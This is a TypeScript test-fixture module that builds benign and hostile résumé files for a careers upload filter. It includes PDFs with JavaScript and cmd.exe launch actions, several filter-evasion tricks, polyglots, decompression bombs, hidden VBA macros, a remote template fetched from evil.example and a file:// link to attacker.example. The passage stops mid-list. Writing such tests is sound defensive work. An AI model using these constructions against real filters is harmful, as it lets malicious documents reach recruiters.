// Résumé files for tests, good and hostile, built as Word and PDF writers would (deflated ZIP parts with real CRCs,
// PDF objects with an xref table): what the careers form must accept, and each thing it must refuse.
import { crc32, deflateRawSync, deflateSync } from "node:zlib";

interface Part {
  name: string;
  content: string | Uint8Array;
  /** Stored instead of deflated. */
  store?: boolean;
}

/** A ZIP archive of `parts`, deflated unless stored. */
function zip(parts: readonly Part[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name, "utf8");
    const raw = typeof part.content === "string" ? Buffer.from(part.content, "utf8") : Buffer.from(part.content);
    const data = part.store ? raw : deflateRawSync(raw);
    const method = part.store ? 0 : 8;
    const crc = crc32(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES = (main: string, extra = "") =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`;
const DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml";
const RELS = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
const DOCUMENT = (text: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;

/** A plain DOCX résumé whose text is `text`. */
export function goodDocx(text = "Dana Reyes, finance manager"): Buffer {
  return zip([
    { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
    { name: "_rels/.rels", content: RELS },
    { name: "word/document.xml", content: DOCUMENT(text) },
  ]);
}

/** A PDF of one page whose content stream says `text`; `catalogExtra` goes into the catalog dictionary. */
export function pdf(text = "Dana Reyes, finance manager", catalogExtra = "", trailerExtra = ""): Buffer {
  const stream = `BT /F1 12 Tf 72 720 Td (${text}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
  ];
  let body = "%PDF-1.7\n";
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of offsets) body += `${String(at).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

/** A PDF whose script hides in a compressed object stream, where a plain text search cannot see it. */
function pdfWithCompressedScript(): Buffer {
  const hidden = deflateSync(Buffer.from("5 0 << /S /JavaScript /JS (app.launchURL('https://evil.example')) >>"));
  const base = pdf("Dana", "/OpenAction 5 0 R ")
    .toString("latin1")
    .replace(/%%EOF\n$/, "");
  return Buffer.concat([
    Buffer.from(
      `${base}6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n`,
      "latin1",
    ),
    hidden,
    Buffer.from("\nendstream\nendobj\n%%EOF\n", "latin1"),
  ]);
}

/** Files the careers form must refuse, each with a file name a shopper's browser could send. */
export function hostileResumes(): { what: string; name: string; bytes: Buffer }[] {
  const zeros = Buffer.alloc(60 * 1024 * 1024);
  return [
    {
      what: "an executable named .pdf",
      name: "resume.pdf",
      bytes: Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"), Buffer.alloc(200)]),
    },
    {
      what: "HTML named .pdf",
      name: "resume.pdf",
      bytes: Buffer.from("<!DOCTYPE html><html><script>alert(1)</script></html>"),
    },
    {
      what: "an SVG",
      name: "resume.svg",
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    },
    {
      what: "a DOCX carrying macros",
      name: "resume.docx",
      bytes: zip([
        { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
        { name: "_rels/.rels", content: RELS },
        { name: "word/document.xml", content: DOCUMENT("Dana") },
        { name: "word/vbaProject.bin", content: Buffer.from('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()') },
      ]),
    },
    {
      what: "a DOCM renamed to .docx",
      name: "resume.docx",
      bytes: zip([
        { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCM_MAIN) },
        { name: "_rels/.rels", content: RELS },
        { name: "word/document.xml", content: DOCUMENT("Dana") },
      ]),
    },
    {
      what: "an archive bomb",
      name: "resume.docx",
      bytes: zip([
        { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
        { name: "word/document.xml", content: DOCUMENT("Dana") },
        { name: "word/media/huge.bin", content: zeros },
      ]),
    },
    {
      what: "an archive of too many parts",
      name: "resume.docx",
      bytes: zip([
        { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
        { name: "word/document.xml", content: DOCUMENT("Dana") },
        ...Array.from({ length: 1200 }, (_, i) => ({ name: `word/media/p${i}.xml`, content: "<x/>", store: true })),
      ]),
    },
    { what: "an encrypted PDF", name: "resume.pdf", bytes: pdf("Dana", "", "/Encrypt 7 0 R /ID [<00><00>] ") },
    {
      what: "a PDF with JavaScript",
      name: "resume.pdf",
      bytes: pdf("Dana", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
    },
    {
      what: "a PDF with an escaped JavaScript name",
      name: "resume.pdf",
      bytes: pdf("Dana", "/OpenAction << /S /J#61vaScript /J#53 (1) >> "),
    },
    { what: "a PDF with a script in an object stream", name: "resume.pdf", bytes: pdfWithCompressedScript() },
    {
      what: "a PDF with a launch action",
      name: "resume.pdf",
      bytes: pdf("Dana", "/OpenAction << /S /Launch /F (cmd.exe) >> "),
    },
    { what: "an empty file", name: "resume.pdf", bytes: Buffer.alloc(0) },
    { what: "a file name with path parts", name: "../../etc/resume.pdf", bytes: pdf() },
    { what: "a file name with control characters", name: "resume\u0007.pdf", bytes: pdf() },
  ];
}

// ---- PDFs built object by object, as writers do, for the reader-level check (ADR 305) ----

/** Encoders of the standard filters, so test files carry real encoded data. */
export const encoders = {
  FlateDecode: (data: Uint8Array) => deflateSync(data),
  ASCIIHexDecode: (data: Uint8Array) => Buffer.from(`${Buffer.from(data).toString("hex")}>`, "latin1"),
  ASCII85Decode: (data: Uint8Array) => {
    let out = "";
    for (let i = 0; i < data.length; i += 4) {
      const chunk = data.subarray(i, i + 4);
      const value = [0, 1, 2, 3].reduce((sum, j) => sum * 256 + (chunk[j] ?? 0), 0);
      if (chunk.length === 4 && value === 0) {
        out += "z";
        continue;
      }
      let group = "";
      let rest = value;
      for (let j = 0; j < 5; j++) {
        group = String.fromCharCode(33 + (rest % 85)) + group;
        rest = Math.floor(rest / 85);
      }
      out += group.slice(0, chunk.length + 1);
    }
    return Buffer.from(`${out}~>`, "latin1");
  },
  RunLengthDecode: (data: Uint8Array) => {
    const out: number[] = [];
    for (let i = 0; i < data.length; i += 128) {
      const chunk = data.subarray(i, i + 128);
      out.push(chunk.length - 1, ...chunk);
    }
    out.push(128);
    return Buffer.from(out);
  },
  /** LZW with EarlyChange 1, clearing the table before it fills. */
  LZWDecode: (data: Uint8Array) => {
    const bytes: number[] = [];
    let buffer = 0;
    let count = 0;
    let width = 9;
    const write = (code: number) => {
      buffer = (buffer << width) | code;
      count += width;
      while (count >= 8) {
        bytes.push((buffer >>> (count - 8)) & 0xff);
        count -= 8;
      }
      buffer &= (1 << count) - 1;
    };
    let table = new Map<string, number>();
    let next = 258;
    write(256);
    const code = (word: string) => (word.length === 1 ? word.charCodeAt(0) : (table.get(word) as number));
    let word = "";
    for (const byte of data) {
      const char = String.fromCharCode(byte);
      if (word === "" || table.has(word + char)) {
        word += char;
        continue;
      }
      write(code(word));
      table.set(word + char, next++);
      if (next >= 1 << width && width < 12) width++;
      if (next >= 4094) {
        write(256);
        table = new Map();
        next = 258;
        width = 9;
      }
      word = char;
    }
    if (word !== "") {
      write(code(word));
      if (next + 1 >= 1 << width && width < 12 && bytes.length + count > 0) width++;
    }
    write(257);
    if (count > 0) bytes.push((buffer << (8 - count)) & 0xff);
    return Buffer.from(bytes);
  },
} as const;

export type FilterName = keyof typeof encoders;

/** `data` encoded by `filters` in the order a reader decodes them (the first is undone first). */
export function encode(data: Uint8Array, filters: readonly FilterName[]): Buffer {
  return [...filters].reverse().reduce((bytes, filter) => encoders[filter](bytes), Buffer.from(data));
}

const filterEntry = (filters: readonly string[]) =>
  filters.length === 0
    ? ""
    : filters.length === 1
      ? `/Filter /${filters[0]} `
      : `/Filter [${filters.map((f) => `/${f}`).join(" ")}] `;

/** A stream object's body: `dict` (without its Length) and the data as stored. */
export function streamObject(dict: string, stored: Uint8Array): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${stored.length} >>\nstream\n`, "latin1"),
    stored,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

/** A PDF whose objects 1..n are `objects`, with a cross-reference table and a trailer naming 1 0 R the catalog. */
function buildPdf(objects: readonly (string | Buffer)[], trailerExtra = ""): Buffer {
  const chunks: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let length = chunks[0]?.length ?? 0;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, "latin1"),
      typeof object === "string" ? Buffer.from(object, "latin1") : object,
      Buffer.from("\nendobj\n", "latin1"),
    ]);
    chunks.push(chunk);
    length += chunk.length;
  });
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of offsets) xref += `${String(at).padStart(10, "0")} 00000 n \n`;
  xref += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...chunks, Buffer.from(xref, "latin1")]);
}

/** A one-page résumé: catalog, pages, page (with `pageExtra`), content; more objects follow from number 5. */
export function resumePdf(
  options: { catalogExtra?: string; pageExtra?: string; trailerExtra?: string; more?: (string | Buffer)[] } = {},
): Buffer {
  const content = deflateSync(Buffer.from("BT /F1 12 Tf 72 720 Td (Dana Reyes, finance manager) Tj ET", "latin1"));
  return buildPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ""}>>`,
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ${options.pageExtra ?? ""}>>`,
      streamObject("/Filter /FlateDecode", content),
      ...(options.more ?? []),
    ],
    options.trailerExtra,
  );
}

/**
 * A PDF 1.5 file as Word or LibreOffice write one: objects 5.. compressed into an object stream under `filters`, a
 * cross-reference stream (PNG predictor, as writers use) naming where each object is. `compressed` bodies may refer to
 * each other by number from 5; the catalog (1) takes `catalogExtra`, the page (3) `pageExtra`.
 */
export function objectStreamPdf(options: {
  compressed: readonly string[];
  filters: readonly FilterName[];
  catalogExtra?: string;
  pageExtra?: string;
  /** Replaces the object stream's decoded data (for offsets that lie). */
  decoded?: (header: string, bodies: string) => { data: string; first: number };
}): Buffer {
  const first = 5;
  const objStm = first + options.compressed.length;
  const xrefNumber = objStm + 1;
  let header = "";
  let bodies = "";
  options.compressed.forEach((body, i) => {
    header += `${first + i} ${bodies.length} `;
    bodies += `${body}\n`;
  });
  const made = options.decoded?.(header, bodies) ?? { data: header + bodies, first: header.length };
  const stored = encode(Buffer.from(made.data, "latin1"), options.filters);
  const content = deflateSync(Buffer.from("BT /F1 12 Tf 72 720 Td (Dana Reyes) Tj ET", "latin1"));
  const plain: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ""}>>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ${options.pageExtra ?? ""}>>`,
    streamObject("/Filter /FlateDecode", content),
  ];
  const chunks: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let length = chunks[0]?.length ?? 0;
  const offsets = new Map<number, number>();
  const add = (number: number, body: string | Buffer) => {
    offsets.set(number, length);
    const chunk = Buffer.concat([
      Buffer.from(`${number} 0 obj\n`, "latin1"),
      typeof body === "string" ? Buffer.from(body, "latin1") : body,
      Buffer.from("\nendobj\n", "latin1"),
    ]);
    chunks.push(chunk);
    length += chunk.length;
  };
  for (const [i, body] of plain.entries()) add(i + 1, body);
  add(
    objStm,
    streamObject(
      `/Type /ObjStm /N ${options.compressed.length} /First ${made.first} ${filterEntry(options.filters)}`,
      stored,
    ),
  );
  const xrefAt = length;
  // Rows of [type, field 2 (4 bytes), field 3 (2 bytes)], each led by PNG filter byte 2 (Up) over the row above.
  const rows: number[][] = [];
  for (let number = 0; number <= xrefNumber; number++) {
    const row = new Array<number>(7).fill(0);
    const put = (type: number, two: number, three: number) => {
      row[0] = type;
      for (let j = 0; j < 4; j++) row[1 + j] = (two >>> (24 - 8 * j)) & 0xff;
      row[5] = (three >>> 8) & 0xff;
      row[6] = three & 0xff;
    };
    if (number === 0) put(0, 0, 0xffff);
    else if (number >= first && number < objStm) put(2, objStm, number - first);
    else put(1, number === xrefNumber ? xrefAt : (offsets.get(number) ?? 0), 0);
    rows.push(row);
  }
  const predicted: number[] = [];
  rows.forEach((row, r) => {
    predicted.push(2, ...row.map((byte, j) => (byte - (r > 0 ? (rows[r - 1]?.[j] ?? 0) : 0)) & 0xff));
  });
  add(
    xrefNumber,
    streamObject(
      `/Type /XRef /Size ${xrefNumber + 1} /Root 1 0 R /W [1 4 2] /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>`,
      deflateSync(Buffer.from(predicted)),
    ),
  );
  chunks.push(Buffer.from(`startxref\n${xrefAt}\n%%EOF\n`, "latin1"));
  return Buffer.concat(chunks);
}

/** `base` with an incremental update appended: object 4 rewritten, a new xref section and trailer with /Prev. */
function incrementalUpdate(base: Buffer, newContent: string): Buffer {
  const text = base.toString("latin1");
  const previousXref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1]);
  const size = Number(/\/Size (\d+)/.exec(text)?.[1]);
  const stored = deflateSync(Buffer.from(newContent, "latin1"));
  const object = Buffer.concat([
    Buffer.from("4 0 obj\n", "latin1"),
    streamObject("/Filter /FlateDecode", stored),
    Buffer.from("\nendobj\n", "latin1"),
  ]);
  const objectAt = base.length;
  const xrefAt = objectAt + object.length;
  const tail = `xref\n0 1\n0000000000 65535 f \n4 1\n${String(objectAt).padStart(10, "0")} 00000 n \ntrailer\n<< /Size ${size} /Root 1 0 R /Prev ${previousXref} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([base, object, Buffer.from(tail, "latin1")]);
}

const LINK = (action: string) =>
  `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A ${action} >>`;
const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";
const OLE_HEADER = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0, 0, 0, 0, 0, 0x3e, 0, 3, 0]);

export interface CorpusFile {
  what: string;
  name: string;
  bytes: Buffer;
  /** What the check's reason must say, so each file proves the rule it was made for. */
  reason: RegExp;
}

/**
 * The red team's files (issue 26) and their cousins: each is read by pdf.js, pypdf or Word as hostile, and each
 * passed the old text search. Every one must be refused for the reason given.
 */
export function readerHostileResumes(): CorpusFile[] {
  const pdfFile = (what: string, bytes: Buffer, reason: RegExp): CorpusFile => ({
    what,
    name: "resume.pdf",
    bytes,
    reason,
  });
  const docxFile = (what: string, bytes: Buffer, reason: RegExp): CorpusFile => ({
    what,
    name: "resume.docx",
    bytes,
    reason,
  });
  const hiddenScript = "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>";
  return [
    pdfFile(
      "a PDF whose /JavaScript name tree ends in a NUL",
      resumePdf({
        catalogExtra: "/Names << /JavaScript\0 5 0 R >> ",
        more: ["<< /Names [(a) 6 0 R] >>", "<< /S /JavaScript\0/JS\0(app.alert(1)) >>"],
      }),
      /\/JavaScript/,
    ),
    pdfFile(
      "a PDF whose link launches a program, /Launch ending in a NUL",
      resumePdf({ pageExtra: "/Annots [5 0 R] ", more: [LINK("<< /S /Launch\0/F (cmd.exe) >>")] }),
      /\/Launch/,
    ),
    pdfFile(
      "a PDF whose /Encrypt ends in a NUL",
      resumePdf({ trailerExtra: "/Encrypt\0 5 0 R /ID [<00><00>] ", more: ["<< /Filter /Standard /V 1 /R 2 >>"] }),
      /\/Encrypt/,
    ),
    pdfFile(
      "a PDF whose link runs /Java#53cript",
      resumePdf({ pageExtra: "/Annots [5 0 R] ", more: [LINK("<< /S /Java#53cript /JS (app.alert(1)) >>")] }),
      /\/JavaScript/,
    ),
    pdfFile(
      "a PDF whose OpenAction is JavaScript in an /ASCIIHexDecode object stream",
      objectStreamPdf({ compressed: [SCRIPT], filters: ["ASCIIHexDecode"], catalogExtra: "/OpenAction 5 0 R " }),
      /./,
    ),
    pdfFile(
      "a PDF whose OpenAction is JavaScript in an [/ASCII85Decode /FlateDecode] object stream",
      objectStreamPdf({
        compressed: [SCRIPT],
        filters: ["ASCII85Decode", "FlateDecode"],
        catalogExtra: "/OpenAction 5 0 R ",
      }),
      /./,
    ),
    ...(["ASCIIHexDecode", "ASCII85Decode", "LZWDecode", "RunLengthDecode", "FlateDecode"] as const).map((filter) =>
      pdfFile(
        `a PDF whose link's JavaScript is in a /${filter} object stream`,
        objectStreamPdf({ compressed: [LINK(SCRIPT)], filters: [filter], pageExtra: "/Annots [5 0 R] " }),
        /\/JavaScript/,
      ),
    ),
    pdfFile(
      "a PDF whose object stream hides an object at an offset inside what reads in order as a string",
      objectStreamPdf({
        compressed: ["<< >>", LINK(SCRIPT)],
        filters: ["FlateDecode"],
        pageExtra: "/Annots [6 0 R] ",
        decoded: () => {
          const inside = LINK(SCRIPT);
          const header = "5 0 6 1 ";
          return { data: `${header}(${inside})`, first: header.length };
        },
      }),
      /\/JavaScript/,
    ),
    pdfFile(
      "a PDF whose object stream is behind /DCTDecode, which cannot be read as objects",
      (() => {
        const file = objectStreamPdf({ compressed: ["<< >>"], filters: [] }).toString("latin1");
        return Buffer.from(file.replace("/Type /ObjStm", "/Filter /DCTDecode /Type /ObjStm"), "latin1");
      })(),
      /object stream behind \/DCTDecode/,
    ),
    pdfFile(
      "a PDF whose object stream calls itself an image",
      (() => {
        const file = objectStreamPdf({
          compressed: [LINK(SCRIPT)],
          filters: ["FlateDecode"],
          pageExtra: "/Annots [5 0 R] ",
        });
        return Buffer.from(file.toString("latin1").replace("/Type /ObjStm", "/Subtype /Image /Type /ObjStm"), "latin1");
      })(),
      /\/JavaScript/,
    ),
    pdfFile(
      "a PDF with a stream under a filter no reader knows",
      resumePdf({ more: [streamObject("/Filter /SecretDecode", Buffer.from("5 0 obj"))] }),
      /cannot decode \/SecretDecode/,
    ),
    pdfFile(
      "a PDF with an embedded executable",
      resumePdf({
        catalogExtra: "/Names << /EmbeddedFiles 5 0 R >> ",
        more: [
          "<< /Names [(setup.exe) 6 0 R] >>",
          "<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
          streamObject("/Type /EmbeddedFile", Buffer.concat([Buffer.from("MZ\x90\x00", "latin1"), Buffer.alloc(64)])),
        ],
      }),
      /embedded file/,
    ),
    pdfFile(
      "a PDF whose OpenAction opens a URI",
      resumePdf({ catalogExtra: "/OpenAction << /S /URI /URI (https://evil.example/) >> " }),
      /OpenAction/,
    ),
    pdfFile(
      "a PDF whose catalog names its OpenAction twice, the action first and a destination last",
      resumePdf({ catalogExtra: "/OpenAction << /S /URI /URI (https://evil.example/) >> /OpenAction [3 0 R /Fit] " }),
      /OpenAction/,
    ),
    pdfFile(
      "a PDF whose link points at a file: URI (a credential leak)",
      resumePdf({
        pageExtra: "/Annots [5 0 R] ",
        more: [LINK("<< /S /URI /URI (file://attacker.example/share/x) >>")],
      }),
      /\/URI/,
    ),
    pdfFile(
      "a PDF whose page runs an automatic action",
      resumePdf({ pageExtra: "/AA << /O 5 0 R >> ", more: ["<< /S /Named /N /Print >>"] }),
      /\/AA/,
    ),
    pdfFile(
      "a PDF/ZIP polyglot (the archive after %%EOF)",
      Buffer.concat([resumePdf(), zip([{ name: "payload.exe", content: "MZ" }])]),
      /ZIP/,
    ),
    pdfFile(
      "a PDF/ZIP polyglot (the archive inside a stream, ahead of %%EOF)",
      resumePdf({ more: [streamObject("", zip([{ name: "payload.exe", content: "MZ" }]))] }),
      /ZIP/,
    ),
    pdfFile(
      "HTML after a %PDF- header",
      Buffer.from("%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n", "latin1"),
      /pdf: /,
    ),
    pdfFile(
      "a PDF whose header comment is HTML",
      Buffer.concat([Buffer.from("%PDF-1.7\n%<html><script>alert(1)</script>\n", "latin1"), resumePdf().subarray(9)]),
      /HTML/,
    ),
    pdfFile(
      "a PDF with content after its last %%EOF",
      Buffer.concat([resumePdf(), Buffer.from("[(payload the reader never shows)]\n")]),
      /after the last %%EOF/,
    ),
    pdfFile(
      "a PDF whose object hides inside an image's data, reachable by its offset",
      resumePdf({
        more: [
          streamObject(
            "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
            Buffer.from(`\xff\xd8\xff\xe0 9 0 obj ${hiddenScript} endobj \xff\xd9`, "latin1"),
          ),
        ],
      }),
      /hidden/,
    ),
    pdfFile(
      "a PDF whose object hides inside a string",
      resumePdf({ more: [`<< /Title (10 0 obj ${hiddenScript.replace(/[()]/g, "")} endobj) >>`] }),
      /hidden/,
    ),
    pdfFile(
      "a PDF whose stream unpacks past the budget (a bomb)",
      resumePdf({ more: [streamObject("/Filter /FlateDecode", deflateSync(Buffer.alloc(40 * 1024 * 1024)))] }),
      /unpacks too large/,
    ),
    pdfFile(
      "a PDF nested deeper than any reader needs",
      resumePdf({ catalogExtra: `/X ${"[".repeat(100)}${"]".repeat(100)} ` }),
      /nested too deep/,
    ),
    pdfFile(
      "a PDF with an encrypted stream (/Crypt)",
      resumePdf({ more: [streamObject("/Filter /Crypt", Buffer.from("x"))] }),
      /encrypted/,
    ),
    docxFile(
      "a DOCX whose VBA project hides under another part name, found by its OLE content",
      zip([
        { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
        { name: "_rels/.rels", content: RELS },
        { name: "word/document.xml", content: DOCUMENT("Dana") },
        { name: "word/media/image7.png", content: Buffer.concat([OLE_HEADER, Buffer.from("Sub AutoOpen()")]) },
      ]),
      /OLE/,
    ),
    docxFile(
      "a DOCX that declares a VBA project content type for another extension",
      zip([
        {
          name: "[Content_Types].xml",
          content: CONTENT_TYPES(
            DOCX_MAIN,
            '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>',
          ),
        },
        { name: "_rels/.rels", content: RELS },
        { name: "word/document.xml", content: DOCUMENT("Dana") },
        { name: "word/settings.dat", content: "Sub AutoOpen()" },
      ]),
      /content type/,
    ),
    docxFile(
      "a DOCX whose relationship loads a VBA project under another name",
      zip([
        { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
        { name: "_rels/.rels", content: RELS },
        { name: "word/document.xml", content: DOCUMENT("Dana") },
        {
          name: "word/_rels/document.xml.rels",
          content:
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Target="macros.xml" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Id="rId9"/></Relationships>',
        },
        { name: "word/macros.xml", content: "<x/>" },
      ]),
      /macro relationship/,
    ),
    docxFile(
      "a DOCX whose part unpacks past the size its directory declares",
      (() => {
        const archive = zip([
          { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
          { name: "_rels/.rels", content: RELS },
          { name: "word/document.xml", content: DOCUMENT("Dana ".repeat(2000)) },
        ]);
        // The central directory's record of word/document.xml: its unpacked size now says 100 bytes.
        const record =
          archive.indexOf(Buffer.from("word/document.xml"), archive.lastIndexOf(Buffer.from("PK\x01\x02", "latin1"))) -
          46;
        archive.writeUInt32LE(100, record + 24);
        return archive;
      })(),
      /declared size/,
    ),
    docxFile(
      "a DOCX whose settings fetch a remote template (remote template injection)",
      zip([
        { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
        { name: "_rels/.rels", content: RELS },
        { name: "word/document.xml", content: DOCUMENT("Dana") },
        {
          name: "word/_rels/settings.xml.rels",
          content:
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
      /external relationship/,
    ),
  ];
}

/** Bytes that do not compress (a linear congruential sequence), as a photo's or a font's data does not. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = 12345;
  for (let i = 0; i < length; i++) {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    bytes[i] = state >>> 24;
  }
  return bytes;
}

/** Résumés writers really produce, which the check must accept: each shape the hostile ones are variations of. */
export function readerBenignResumes(): { what: string; name: string; bytes: Buffer }[] {
  const jpeg = Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 131 + 7) % 256)),
    Buffer.from([0xff, 0xd9]),
  ]);
  return [
    { what: "a one-page PDF", name: "resume.pdf", bytes: resumePdf() },
    {
      what: "a PDF whose photo's data holds a ZIP end signature by chance, 100 kB before the end",
      name: "resume.pdf",
      bytes: resumePdf({
        more: [
          streamObject(
            "/Type /XObject /Subtype /Image /Width 8 /Height 8 /Filter /DCTDecode",
            Buffer.concat([jpeg, Buffer.from("PK\x05\x06", "latin1"), jpeg]),
          ),
          streamObject("/Filter /FlateDecode", deflateSync(noise(120_000))),
        ],
      }),
    },
    {
      what: "a PDF whose OpenAction is a destination of its own (as Acrobat writes it)",
      name: "resume.pdf",
      bytes: resumePdf({ catalogExtra: "/OpenAction 5 0 R ", more: ["[3 0 R /FitH null]"] }),
    },
    {
      what: "a PDF whose catalog gives a base URI for its links",
      name: "resume.pdf",
      bytes: resumePdf({ catalogExtra: "/URI << /Base (https://dana.example/) >> " }),
    },
    {
      what: "a PDF with an incremental update after its first %%EOF",
      name: "resume.pdf",
      bytes: incrementalUpdate(resumePdf(), "BT /F1 12 Tf 72 720 Td (Dana Reyes, senior finance manager) Tj ET"),
    },
    {
      what: "a PDF 1.5 with a Flate object stream, a cross-reference stream, a web link and an opening destination",
      name: "resume.pdf",
      bytes: objectStreamPdf({
        compressed: [
          LINK("<< /S /URI /URI (https://www.linkedin.com/in/dana-reyes) >>"),
          "<< /Title (Dana Reyes) /Producer (Word) >>",
        ],
        filters: ["FlateDecode"],
        pageExtra: "/Annots [5 0 R] ",
        catalogExtra: "/OpenAction [3 0 R /Fit] ",
      }),
    },
    {
      what: "a PDF with an [/ASCII85Decode /FlateDecode] object stream",
      name: "resume.pdf",
      bytes: objectStreamPdf({ compressed: ["<< /Title (Dana) >>"], filters: ["ASCII85Decode", "FlateDecode"] }),
    },
    {
      what: "a PDF with a mailto link and a photo (DCT, not decoded)",
      name: "resume.pdf",
      bytes: resumePdf({
        pageExtra: "/Annots [5 0 R] /Resources << /XObject << /Im1 6 0 R >> >> ",
        more: [
          LINK("<< /S /URI /URI (mailto:dana@example.com) >>"),
          streamObject(
            "/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
            jpeg,
          ),
        ],
      }),
    },
